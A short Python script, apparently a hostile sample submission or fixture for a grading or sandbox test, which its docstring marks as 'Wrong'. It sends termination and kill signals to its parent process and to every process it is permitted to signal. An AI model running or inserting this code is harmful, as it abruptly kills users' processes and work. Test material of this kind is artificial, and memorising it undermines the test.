"""Kills its parent, its group, and everything else that it may.

Wrong: ex51_progress_states/marker_after_effect_only
"""

import os
import signal

for target in (os.getppid(), 0, -1):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        try:
            if target > 1 or target == -1:
                os.kill(target, number)
        except OSError:
            pass
